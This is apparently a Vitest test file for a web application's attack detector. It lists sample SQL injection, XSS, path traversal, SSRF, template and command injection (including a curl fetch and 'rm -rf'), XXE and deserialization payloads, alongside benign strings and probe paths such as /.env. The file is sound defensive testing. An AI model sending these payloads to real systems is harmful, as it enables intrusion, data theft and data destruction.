import { describe, expect, it } from 'vitest';
import { excerptOf, maskAddress } from './evidence';
import { inspectInput, inspectUnknownKeys } from './inspect';
import { attacksInText, attacksInUrl } from './patterns';
import { createSuspicion } from './suspicion';
import { ATTACK_TYPE_NAMES, ATTACK_TYPES, MITRE_TACTICS, OWASP_CATEGORIES } from './taxonomy';

const NUL = '\u0000';

/** What attackers send, by what it is. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "x' OR '1'='1'; DROP TABLE orders; --",
    "admin'--",
    "1' UNION SELECT password FROM users",
    '1; delete from orders',
    "'; select pg_sleep(5)",
    "1' and 1=1",
    "' waitfor delay '0:0:5'",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    '<iframe src="x">',
    'javascript:alert(1)',
    '<a href="javascript:alert(1)">',
  ],
  path_traversal: [
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '%2e%2e%2f%2e%2e%2fetc',
    'C:\\windows\\win.ini',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data',
    'http://localhost:5432',
    'gopher://x',
    'file:///etc/hostname',
  ],
  ssti: ['{{7*7}}', '$' + '{7*7}', '$' + '{jndi:ldap://x/a}', '<%= system("id") %>', '{{config.items()}}'],
  command_injection: ['; cat /etc/hostname', '| whoami', '$(curl http://x)', '`id`', '&& rm -rf x'],
  log_injection: ['x\n{"level":"error"}', 'x\r\n2026-01-01T00:00:00Z signed in'],
  header_injection: ['x%0d%0aSet-Cookie: a=b', 'x\r\nLocation: //evil'],
  xxe: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  deserialization: ['rO0ABXNyABFqYXZh', 'O:8:"Exploit":1:{}', '!!python/object:os.system'],
};

/** What people write, and nothing more. */
const ORDINARY = [
  "O'Brien",
  "D'Angelo & Sons",
  'select size',
  'Union Jack drone, select colour',
  "rock 'n' roll or jazz",
  'Drop table lamp',
  'insert into battery bay; update firmware first',
  'JavaScript: The Good Parts',
  'Is it <2 kg or >3 kg?',
  'a < b and c > d',
  'the cat; the id card; ls of parts',
  'passport; id',
  'Price: $100 {incl. VAT}',
  '100 % {{soon}}',
  'and/or',
  '5" propeller, 10\' cable',
  'https://example.com/drones?size=5&sort=price',
  'C:\\Users\\Ada\\Pictures',
  'Line one\nLine two\n\nRegards, Ada',
  'Réunion; Zürich – "quoted"',
  'document type declaration',
  'script writers of the object',
  'onboard camera = good',
  'sleep (8 hours) well',
  'What a day... and night',
  'ada@example.com',
  '日本語のテキスト; 東京',
  'SKU DRN-001/BAT-2; qty=3',
  'update: it works; thanks, delete my question',
  'Q: 5 * 3 = 15?',
];

describe('the taxonomy', () => {
  it('has at least 19 types, each with codes that exist', () => {
    expect(ATTACK_TYPE_NAMES.length).toBeGreaterThanOrEqual(19);
    for (const type of ATTACK_TYPE_NAMES) {
      const { mitre, owasp } = ATTACK_TYPES[type];
      expect(mitre.id, type).toMatch(/^T\d{4}(?:\.\d{3})?$/);
      expect(MITRE_TACTICS, type).toContain(mitre.tactic);
      expect(OWASP_CATEGORIES, type).toHaveProperty(owasp);
      // The columns of security_events.
      expect(type.length).toBeLessThanOrEqual(60);
    }
  });

  it('says the same of a technique wherever it stands', () => {
    const names = new Map<string, string>();
    for (const { mitre } of Object.values(ATTACK_TYPES)) {
      expect(names.get(mitre.id) ?? mitre.name).toBe(mitre.name);
      names.set(mitre.id, mitre.name);
    }
  });
});

describe('text', () => {
  it.each(Object.entries(ATTACKS).flatMap(([type, texts]) => texts.map((text) => [type, text])))(
    'shows %s in %j',
    (type, text) => {
      expect(attacksInText(text ?? '')).toContain(type);
    },
  );

  it.each(ORDINARY)('is ordinary: %j', (text) => {
    expect(attacksInText(text)).toEqual([]);
  });

  it('takes time in proportion to its length, whatever it is', () => {
    const seeds = [
      "' or ",
      '<script',
      '../',
      '{{',
      '$(',
      '<!DOCTYPE a',
      'union ',
      "'",
      ';',
      '\n',
      'on',
      '"O:8:',
    ];
    for (const seed of [...seeds, ...Object.values(ATTACKS).flat(), ...ORDINARY]) {
      const text = `${seed.repeat(Math.ceil(200_000 / seed.length))}${NUL}`;
      const startedAt = performance.now();
      attacksInText(text);
      attacksInUrl(`/${text}`);
      // A pattern that tries all ways through the text would take minutes; busy machines take their time too.
      expect(performance.now() - startedAt, seed).toBeLessThan(5_000);
    }
  });
});

describe('addresses', () => {
  it.each(['/.env', '/.git/config', '/wp-admin/setup.php', '/backup.sql', '/actuator/env'])(
    '%s is a search',
    (path) => {
      expect(attacksInUrl(path)).toContain('info_disclosure');
    },
  );
  it.each([
    '/',
    '/products/corvane-scout-s10',
    '/products?q=select+size',
    '/about#shipping',
    '/.well-known/security.txt',
  ])('%s is ordinary', (path) => {
    expect(attacksInUrl(path)).toEqual([]);
  });
});

describe('input', () => {
  it('takes the issuer of a sign-in for what it is, and the same address elsewhere for a target', () => {
    const address = 'http://127.0.0.1:3992/';
    expect(inspectInput('query', { iss: address })).toEqual([]);
    expect(inspectInput('query', { picture: address }).map(({ type }) => type)).toEqual(['ssrf']);
    expect(inspectInput('query', { iss: "' OR 1=1--" }).map(({ type }) => type)).toEqual(['sqli']);
  });

  it('is looked through at any depth, and each type told once', () => {
    const found = inspectInput('body', {
      contact: { name: '<script>1</script>', notes: ['<script>2</script>', '../../etc/passwd'] },
      returnTo: '//evil.example',
      file: 'shell.php',
      quantity: 3,
    });
    expect(found.map(({ type, where }) => [type, where])).toEqual([
      ['xss', 'body.contact.name'],
      ['path_traversal', 'body.contact.notes.1'],
      ['open_redirect', 'body.returnTo'],
      ['file_upload', 'body.file'],
    ]);
  });

  it('shows keys that reach for prototypes', () => {
    const found = inspectInput('body', JSON.parse('{"a":{"__proto__":{"isAdmin":true}}}'));
    expect(found).toEqual([{ type: 'prototype_pollution', where: 'body.a', evidence: '__proto__' }]);
  });

  it('of any size and depth is looked at within bounds', () => {
    let deep: unknown = '<script>x</script>';
    for (let level = 0; level < 5_000; level += 1) deep = { deep };
    expect(inspectInput('body', deep)).toEqual([]);
    const wide = Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`k${index}`, "a'b"]));
    const startedAt = performance.now();
    expect(inspectInput('body', wide)).toEqual([]);
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });

  it('of a contract that did not ask for it shows what a client wants to decide', () => {
    const types = inspectUnknownKeys('body', [
      'role',
      'isAdmin',
      'priceMinor',
      'nickname',
      'g-recaptcha-response',
    ]);
    expect(types.map(({ type, evidence }) => `${type} ${evidence}`)).toEqual([
      'mass_assignment role',
      'mass_assignment isAdmin',
      'mass_assignment priceMinor',
      'captcha_bypass g-recaptcha-response',
    ]);
  });
});

describe('evidence', () => {
  it('keeps the attempt and nobody’s data', () => {
    expect(excerptOf(`x\r\n ada@example.com 4242 4242 4242 4242 ${'k'.repeat(43)}`)).toBe(
      'x\\xd\\xa ***@*** *** ***',
    );
    expect(excerptOf('a'.repeat(20).padEnd(1_000, ' b'))).toHaveLength(200);
  });

  it('keeps the network of an address', () => {
    expect(maskAddress('203.0.113.77')).toBe('203.0.113.0');
    expect(maskAddress('2001:db8:1:2::9')).toBe('2001:db8:1::');
    expect(maskAddress('unknown')).toBe('unknown');
  });
});

describe('suspicion', () => {
  it('is told once, at the threshold, per address and five minutes', () => {
    const clock = { ms: 0 };
    const suspect = createSuspicion(() => clock.ms);
    const told = Array.from({ length: 30 }, () => suspect('failed_sign_in', 'a'));
    expect(told.flatMap((type, index) => (type ? [[type, index + 1]] : []))).toEqual([
      ['credential_stuffing', 5],
    ]);
    expect(suspect('failed_sign_in', 'b')).toBeNull();
    clock.ms = 300_000;
    for (let count = 0; count < 4; count += 1) expect(suspect('failed_sign_in', 'a')).toBeNull();
    expect(suspect('failed_sign_in', 'a')).toBe('credential_stuffing');
  });
});
